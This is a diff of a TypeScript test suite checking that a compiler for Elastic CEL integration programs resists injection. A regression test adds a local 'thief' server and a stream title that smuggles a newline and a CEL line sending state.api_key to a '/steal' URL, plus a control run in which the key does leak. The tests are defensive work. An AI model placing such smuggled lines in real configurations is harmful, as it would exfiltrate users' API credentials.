@@ -24,6 +24,7 @@
  * The reproductions of issue 7 are asserted on their own at the end.
  */
 import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { isDeepStrictEqual } from 'node:util';
@@ -39,6 +40,7 @@ import { canonicalHeader } from '../../targets/elastic/cel/program.ts';
 import { elasticBackend } from '../../targets/elastic/index.ts';
 import { celString } from '../../targets/elastic/quote.ts';
 import { commentText } from '../../targets/shared/prose.ts';
+import { CelAgent } from '../engines/mito/agent.ts';
 import { compileError, evalOnce } from '../engines/mito/mito.ts';
 import { agentVariables, renderConfig } from '../engines/mito/fleet.ts';
 import { toOpenSearch } from '../engines/opensearch/dialect.ts';
@@ -188,7 +190,7 @@ let node: OpenSearchNode;
 // Packages for the validator are many small files: a memory file system when there is one.
 const workDir = mkdtempSync(join(existsSync('/dev/shm') ? '/dev/shm' : tmpdir(), 'mapc-injection-elastic-'));
 /** Every how many corpus strings a package goes through the package-spec validator (all of them with MAPC_FUZZ_FULL). */
-const VALIDATE_EVERY = FULL ? 1 : 12;
+const VALIDATE_EVERY = FULL ? 4 : 12;
 beforeAll(async () => {
   node = await startOpenSearch();
 });
@@ -410,58 +412,62 @@ describe(`Elastic injection suite: ${POSITIONS.length} positions × ${CORPUS.len
   const failures: string[] = [];
 
   for (const position of POSITIONS) {
-    it(`${position.name}: every string is refused at its literal or carried exactly`, async () => {
-      const before = failures.length;
-      const compiledMarker = compile(placeAt(position.name, markerText(position)).map);
-      expect(compiledMarker.errors, `${position.name}: the marker map must compile`).toEqual([]);
-      const marker = readMarker(compiledMarker, failures);
-      const programs: { what: string; text: string }[] = [];
-      const literals = new Map<string, string>();
-      const jobs: Job[] = [];
-      const packages: { what: string; dir: string }[] = [];
-      for (const [i, text] of CORPUS.entries()) {
-        FIGURES.cases++;
-        const placed = placeAt(position.name, text);
-        const hostile = compile(placed.map);
-        if (hostile.errors.length > 0) {
-          if (hostile.errors.some((d) => d.primary.span.line === placed.line)) FIGURES.refused++;
-          else {
-            failures.push(
-              `${position.name} ${JSON.stringify(text).slice(0, 80)}: refused elsewhere: ${hostile.errors
-                .map((d) => `${d.code}@${d.primary.span.line} ${d.message}`)
-                .join('; ')
-                .slice(0, 300)} (literal on line ${placed.line})`,
-            );
+    it(
+      `${position.name}: every string is refused at its literal or carried exactly`,
+      { timeout: FULL ? 4 * 3600_000 : 600_000 },
+      async () => {
+        const before = failures.length;
+        const compiledMarker = compile(placeAt(position.name, markerText(position)).map);
+        expect(compiledMarker.errors, `${position.name}: the marker map must compile`).toEqual([]);
+        const marker = readMarker(compiledMarker, failures);
+        const programs: { what: string; text: string }[] = [];
+        const literals = new Map<string, string>();
+        const jobs: Job[] = [];
+        const packages: { what: string; dir: string }[] = [];
+        for (const [i, text] of CORPUS.entries()) {
+          FIGURES.cases++;
+          const placed = placeAt(position.name, text);
+          const hostile = compile(placed.map);
+          if (hostile.errors.length > 0) {
+            if (hostile.errors.some((d) => d.primary.span.line === placed.line)) FIGURES.refused++;
+            else {
+              failures.push(
+                `${position.name} ${JSON.stringify(text).slice(0, 80)}: refused elsewhere: ${hostile.errors
+                  .map((d) => `${d.code}@${d.primary.span.line} ${d.message}`)
+                  .join('; ')
+                  .slice(0, 300)} (literal on line ${placed.line})`,
+              );
+            }
+            continue;
           }
-          continue;
+          FIGURES.carried++;
+          let work: ReturnType<typeof verify>;
+          try {
+            work = verify(position, text, hostile, marker, failures);
+          } catch (e) {
+            failures.push(
+              `${position.name} ${JSON.stringify(text).slice(0, 80)}: unreadable output: ${(e as Error).message}`,
+            );
+            continue;
+          }
+          programs.push(...work.programs);
+          for (const value of work.literals) literals.set(celString(value), value);
+          if (work.job) jobs.push(work.job);
+          const validates = position.kind === 'text' || position.kind === 'constrained' || position.kind === 'table';
+          if (validates && i % VALIDATE_EVERY === 0) {
+            const dir = join(workDir, position.name, String(i), 'hostile');
+            writePackage(hostile.files!, dir);
+            packages.push({ what: `${position.name} ${JSON.stringify(text).slice(0, 80)}`, dir });
+          }
         }
-        FIGURES.carried++;
-        let work: ReturnType<typeof verify>;
-        try {
-          work = verify(position, text, hostile, marker, failures);
-        } catch (e) {
-          failures.push(
-            `${position.name} ${JSON.stringify(text).slice(0, 80)}: unreadable output: ${(e as Error).message}`,
-          );
-          continue;
-        }
-        programs.push(...work.programs);
-        for (const value of work.literals) literals.set(celString(value), value);
-        if (work.job) jobs.push(work.job);
-        const validates = position.kind === 'text' || position.kind === 'constrained' || position.kind === 'table';
-        if (validates && i % VALIDATE_EVERY === 0) {
-          const dir = join(workDir, position.name, String(i), 'hostile');
-          writePackage(hostile.files!, dir);
-          packages.push({ what: `${position.name} ${JSON.stringify(text).slice(0, 80)}`, dir });
-        }
-      }
-      const unique = [...new Map(programs.map((p) => [p.text, p])).values()];
-      await checkOnMito(position.name, literals, unique, failures);
-      await runPipelines(jobs, failures);
-      validatePackages(packages, failures);
-      rmSync(join(workDir, position.name), { recursive: true, force: true });
-      expect(failures.slice(before)).toEqual([]);
-    });
+        const unique = [...new Map(programs.map((p) => [p.text, p])).values()];
+        await checkOnMito(position.name, literals, unique, failures);
+        await runPipelines(jobs, failures);
+        validatePackages(packages, failures);
+        rmSync(join(workDir, position.name), { recursive: true, force: true });
+        expect(failures.slice(before)).toEqual([]);
+      },
+    );
   }
 
   it('accounts for every case', () => {
@@ -484,6 +490,53 @@ describe('the reproductions of issue 7', () => {
     String(program)
       .split('\n')
       .filter((l) => !/^\s*\/\//.test(l));
+
+  /** A server on 127.0.0.1 answering every request with `body`, counting requests. */
+  async function server(body: string): Promise<{ url: string; hits: string[]; close: () => Promise<void> }> {
+    const hits: string[] = [];
+    const srv: Server = createServer((req, res) => {
+      hits.push(req.url ?? '');
+      res.writeHead(200, { 'Content-Type': 'application/json' }).end(body);
+    });
+    await new Promise<void>((resolve) => srv.listen(0, '127.0.0.1', resolve));
+    const address = srv.address();
+    const port = typeof address === 'object' && address ? address.port : 0;
+    return { url: `http://127.0.0.1:${port}`, hits, close: () => new Promise((r) => srv.close(() => r())) };
+  }
+
+  it('the title line break of issue 7 sends nothing to another port when the Agent runs the program', async () => {
+    const vendor = await server(
+      JSON.stringify({ list: { 'audit-items': [{ 'created-at': '2024-05-06T07:08:09Z' }] } }),
+    );
+    const thief = await server('{}');
+    try {
+      const attack = (port: string): string =>
+        `L\n    get("${port}/steal?k=" + state.api_key).StatusCode == 0 ? {} : //`;
+      const compiled = compile(placeAt('stream.title', attack(thief.url)).map);
+      expect(compiled.errors).toEqual([]);
+      const template = compiled.files!.get('data_stream/audit/agent/stream/cel.yml.hbs')!;
+      const config = renderConfig(template, { ...VARS, base_url: vendor.url });
+      const report = await new CelAgent(config).periodicRun();
+      expect(thief.hits).toEqual([]);
+      expect(report.errors).toEqual([]);
+      expect(report.published.map((e) => e['message'])).toEqual([
+        JSON.stringify({ 'created-at': '2024-05-06T07:08:09Z' }),
+      ]);
+
+      // The control: the same line spliced into the program as the unquoted title was, on the same
+      // harness, does reach the thief (so the check above can fail).
+      const spliced = String(config['program']).replace(
+        /^(\/\/ mapc: )[^\n]*/,
+        (_m, head: string) => `${head}L\n${attack(thief.url).slice(2)}`,
+      );
+      await new CelAgent({ ...config, program: spliced }).periodicRun();
+      expect(thief.hits.length).toBeGreaterThan(0);
+      expect(thief.hits[0]).toContain('/steal?k=SECRET-API-KEY');
+    } finally {
+      await vendor.close();
+      await thief.close();
+    }
+  });
 
   it('a line break in a stream title stays inside the `// mapc:` comment', () => {
     const title = 'L\n    get("http://127.0.0.1:9999/steal?k=" + state.api_key).StatusCode == 0 ? {} : //';
